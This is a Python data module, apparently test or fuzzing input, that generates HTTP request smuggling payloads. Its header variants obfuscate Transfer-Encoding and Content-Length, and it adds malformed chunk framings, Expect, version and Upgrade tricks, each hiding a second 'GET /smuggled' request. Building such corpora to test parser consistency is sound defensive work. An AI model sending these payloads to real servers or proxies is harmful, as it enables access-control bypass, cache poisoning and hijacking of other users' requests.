"""Requests that two readers may cut differently: the other one sees a second request in the content of the first.

Data only. Each way to spell the framing is there twice: with a length that counts more than the chunks, and with chunks
that hold more than the length. What the second reader would answer is a GET of /smuggled.
"""

from __future__ import annotations

SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"

CODINGS = (
    b"Transfer-Encoding: chunked",
    b"Transfer-Encoding: Chunked",
    b"transfer-encoding: chunked",
    b"Transfer-Encoding:chunked",
    b"Transfer-Encoding:  chunked ",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding:\x0cchunked",
    b"Transfer-Encoding: chunked\t",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked",
    b" Transfer-Encoding: chunked",
    b"X: y\r\n Transfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"X: y\r\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunkedx",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked;q=1",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: chun\xffked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    b"Transfer_Encoding: chunked",
    b"Transfer-Encoding\0: chunked",
    b"Transfer-Encoding: chunked\0",
    b"Transfer-Encoding: \xa0chunked",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    b"Connection: Content-Length\r\nTransfer-Encoding: chunked",
)

LENGTHS = (
    b"Content-Length: 0\r\nContent-Length: %d",
    b"Content-Length: %d\r\nContent-Length: 0",
    b"Content-Length: 0, %d",
    b"Content-Length: +%d",
    b"Content-Length: -%d",
    b"Content-Length: 0x%x",
    b"Content-Length: %d.0",
    b"Content-Length: %d 0",
    b"Content-Length : %d",
    b"Content-Length\t: %d",
    b" Content-Length: %d",
    b"X: y\r\n Content-Length: %d",
    b"X: y\nContent-Length: %d",
    b"Content-Length:\x0b%d",
    b"Content-Length: %d\0",
    b"Content_Length: %d",
    b"Connection: Content-Length\r\nContent-Length: %d",
)

CHUNKS = (
    b"0\r\n\r\n",
    b"0\n\n",
    b"0;\n\r\n",
    b"0;a=\n\r\n",
    b'0;a="\r\n"\r\n\r\n',
    b"0\r\nX: y\n\n",
    b"0\r\nX: y\r\n\n",
    b"0\r\r\n\r\n",
    b"00000000000000000\r\n\r\n",
    b"0x0\r\n\r\n",
    b"-0\r\n\r\n",
    b" 0\r\n\r\n",
    b"0 \r\n\r\n",
    b"1\r\na\n0\r\n\r\n",
    b"1\nZ\r\n0\r\n\r\n",
    b"2\r\nab0\r\n\r\n",
    b"1;\nXX\r\n0\r\n\r\n",
    b"1\r\nab\r\n0\r\n\r\n",
)


def _post(method: bytes, *fields: bytes) -> bytes:
    return method + b" /outer HTTP/1.1\r\nHost: a\r\n" + b"".join(field + b"\r\n" for field in fields) + b"\r\n"


def _requests() -> list[bytes]:
    ends = b"0\r\n\r\n" + SMUGGLED
    holds = b"%x\r\n%b\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED)
    size = len(b"%x\r\n" % len(SMUGGLED))
    made = []
    for coding in CODINGS:
        for length in b"Content-Length: %d", b"content-length:%d":
            made.append(_post(b"POST", length % len(ends), coding) + ends)
            made.append(_post(b"POST", coding, length % size) + holds)
        made.append(_post(b"POST", coding) + holds)
        made.append(_post(b"GET", coding) + ends)
    for length in LENGTHS:
        for method in b"POST", b"GET":
            made.append(_post(method, length % len(SMUGGLED)) + SMUGGLED)
    for chunk in CHUNKS:
        made.append(_post(b"POST", b"Transfer-Encoding: chunked") + chunk + SMUGGLED)
        made.append(_post(b"POST", b"Transfer-Encoding: chunked") + b"5\r\nhello\r\n" + chunk + SMUGGLED)
    for expect in b"100-continue", b"100-Continue", b"x", b"100-continue, 100-continue":
        made.append(_post(b"POST", b"Expect: " + expect, b"Content-Length: %d" % len(SMUGGLED)) + SMUGGLED)
        made.append(_post(b"GET", b"Expect: " + expect, b"Content-Length: %d" % len(SMUGGLED)) + SMUGGLED)
    for version in b"HTTP/1.0", b"HTTP/0.9", b"HTTP/1.2", b"HTTP/2.0":
        request = _post(b"POST", b"Connection: keep-alive", b"Transfer-Encoding: chunked").replace(b"HTTP/1.1", version)
        made.append(request + ends)
        made.append(request + holds)
    for upgrade in b"websocket", b"h2c":
        fields = b"Connection: Upgrade", b"Upgrade: " + upgrade, b"Sec-WebSocket-Version: 7"
        made.append(_post(b"GET", *fields) + SMUGGLED)
        made.append(_post(b"GET", *fields, b"Content-Length: %d" % len(SMUGGLED)) + SMUGGLED)
    return made


SMUGGLING = tuple(_requests())
